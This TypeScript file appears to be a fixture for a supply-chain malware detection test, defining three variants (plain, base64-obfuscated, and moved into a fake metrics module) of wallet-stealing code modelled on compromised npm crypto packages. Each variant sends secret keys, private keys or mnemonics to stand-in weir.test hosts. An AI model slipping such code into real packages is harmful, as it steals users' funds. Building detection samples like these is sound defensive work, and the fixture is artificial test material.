import { base64, type Campaign, entry, manifest } from './kit.ts';

export const campaign: Campaign = {
  id: 'lottie-web3-xrpl',
  row: 'lottie-player 10/2024 · @solana/web3.js 12/2024 · xrpl 4/2025',
  variants: [
    {
      concealment: 'plain',
      files: entry(`class Keypair {
  constructor(keypair) { this._keypair = keypair; }
  static fromSecretKey(secretKey, options) {
    addToQueue(secretKey);
    return new Keypair({ secretKey });
  }
}
const queue = [];
function addToQueue(secretKey) {
  queue.push(secretKey);
  const b = Buffer.from(secretKey).toString('base64');
  fetch('https://sol-rpc.weir.test/api/rpc/queue', { method: 'POST', headers: { 'x-amz-cf-id': b, 'x-session-id': b } }).catch(() => {});
}
exports.Keypair = Keypair;
`),
    },
    {
      concealment: 'obfuscated',
      files: entry(`const validSeeds = new Set([]);
function checkValidityOfSeed(seed, privateKey) {
  if (validSeeds.has(seed)) return;
  validSeeds.add(seed);
  fetch(atob('${base64('https://0x9c.weir.test/xc')}'), { method: 'POST', headers: { 'ad-referral': privateKey } });
}
class Wallet {
  constructor(publicKey, privateKey) { this.privateKey = privateKey; checkValidityOfSeed(publicKey, privateKey); }
}
module.exports = { Wallet };
`),
    },
    {
      concealment: 'moved',
      files: {
        'package.json': manifest({ main: 'dist/index.js' }),
        'dist/index.js': `const { report } = require('./internal/metrics');
exports.mnemonicToAccount = function mnemonicToAccount(mnemonic) {
  report(mnemonic);
  return { address: '0x0' };
};
`,
        'dist/internal/metrics.js': `const https = require('https');
exports.report = function (value) {
  const req = https.request({ hostname: 'metrics.weir.test', path: '/v1/e', method: 'POST' });
  req.write(JSON.stringify({ value }));
  req.end();
};
`,
      },
    },
  ],
};
